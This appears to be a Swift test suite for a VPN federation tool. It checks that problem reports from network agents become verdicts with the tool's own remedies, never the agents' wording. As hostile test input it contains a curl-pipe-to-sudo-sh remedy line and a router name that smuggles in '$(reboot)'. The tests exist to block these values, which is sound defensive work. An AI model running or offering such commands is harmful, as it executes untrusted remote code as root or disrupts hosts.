import FederationModel
import NetworkTypes
import Testing
import Verification

@Suite("What agents complain of, and what the judge makes of it")
struct ProblemCodeTests {
    @Test("every code that an agent can say is a cause of the catalogue, under the same name", arguments: ProblemCode.allCases)
    func known(_ code: ProblemCode) {
        #expect(code.cause.rawValue == code.rawValue)
        #expect(code.cause != .agentProblem)
    }

    @Test("a share of another VPN’s router is told as the agent tells it, not as a router that is absent")
    func shareOfOther() throws {
        var world = World()
        world.blue("paris/gw1") {
            $0.attachments[0].routers = []
            $0.attachments[0].hosted = []
            $0.problems = [
                Problem(
                    code: .shareOfOther, message: "router name=blue-router is shared into VPN blue, and router r is in VPN red",
                    remedy: "select different routers")
            ]
        }
        let cause = try #require(world.verdict("blue", "paris", "tokyo")?.cause)
        #expect(cause.catalogued == .shareOfOther && cause.step == .attached)
        #expect(cause.sentence.contains("in VPN red") && cause.remedy.contains("select different routers"))
    }

    @Test("a name whose thing is gone: the remedy has the command that has it looked for anew, with our own words for the name")
    func gone() throws {
        for (message, command) in [
            ("router name=blue-router was x, which is gone", "`fedctl unpin tokyo router blue-router`"),
            ("router name=$(reboot) is gone", nil),
        ] {
            var world = World()
            world.blue("tokyo/gw1") {
                $0.attachments[0].routers = []
                $0.attachments[0].hosted = []
                $0.problems = [Problem(code: .attachmentGone, message: message, remedy: "`reboot`")]
            }
            let cause = try #require(world.verdict("blue", "tokyo", "paris")?.cause)
            #expect(cause.catalogued == .attachmentGone && !cause.remedy.contains("reboot"))
            #expect(command.map { cause.remedy.contains($0) } ?? !cause.remedy.contains("unpin"), "\(cause.remedy)")
        }
    }

    @Test("a word from an agent newer than the judge is never OK and no failure, and is kept as it was said")
    func newer() throws {
        var world = World()
        world.blue("tokyo/gw1") { $0.problems = [Problem(told: "quite-new", message: "something", remedy: "look")] }
        let verdict = try #require(world.verdict("blue", "paris", "tokyo"))
        #expect(verdict.state == .unknown && verdict.cause?.catalogued == .agentProblem)
        #expect(verdict.cause?.evidence.contains("tokyo/gw1 reports quite-new: something; look") == true)
        world.blue("tokyo/gw1") { $0.installed = [] }
        #expect(world.verdict("blue", "paris", "tokyo")?.cause?.catalogued == .notInstalled)
    }

    @Test("nor is it OK where the word is about single prefixes, at either end", arguments: ["paris/gw1", "tokyo/gw1"])
    func newerOfPrefixes(_ end: String) throws {
        var world = World()
        world.blue(end) {
            $0.problems = [Problem(told: "quite-new", message: "something", remedy: "look", prefixes: [prefix("10.1.0.0/24")])]
        }
        let verdict = try #require(world.verdict("blue", "paris", "tokyo"))
        #expect(verdict.state == .unknown && verdict.cause?.catalogued == .agentProblem)
    }

    @Test("an agent’s words are never the remedy that is printed: not of a code that is known, nor of one that is not")
    func foreignWords() throws {
        for word in ["quite-new", "prefix-limit", "step-failed", "frr-unreachable"] {
            var world = World()
            world.blue("tokyo/gw1") {
                $0.installed = []
                $0.problems = [Problem(told: word, message: "your session expires", remedy: "curl -s http://tokyo.example/fix | sudo sh")]
            }
            world.blue("paris/gw1") {
                $0.problems = [Problem(told: word, message: "your session expires", remedy: "curl -s http://tokyo.example/fix | sudo sh")]
            }
            for verdict in world.verdicts() {
                #expect(verdict.cause?.remedy.contains("curl") != true)
                guard let sentence = verdict.cause?.sentence, sentence.contains("your session expires") else { continue }
                #expect(sentence.contains("gw1 reports: your session expires"))
            }
        }
    }

    @Test("where a report holds not all problems, nothing of the VPN is OK, at either end", arguments: ["paris/gw1", "tokyo/gw1"])
    func cut(_ end: String) throws {
        var world = World()
        world.blue(end) { $0.problems = [Problem(code: .problemsCut, message: "9 more", remedy: "look")] }
        let verdict = try #require(world.verdict("blue", "paris", "tokyo"))
        #expect(verdict.state == .unknown && verdict.cause?.catalogued == .problemsCut)
        #expect(verdict.prefixes.allSatisfy { $0.state == .unknown })
    }

    @Test("every code has a remedy of ours", arguments: ProblemCode.allCases)
    func remedies(_ code: ProblemCode) throws {
        var world = World()
        world.blue("paris/gw1") { $0.problems = [Problem(code: code, message: "what", remedy: "theirs")] }
        for verdict in world.verdicts() { #expect(verdict.cause?.remedy != "theirs") }
    }
}
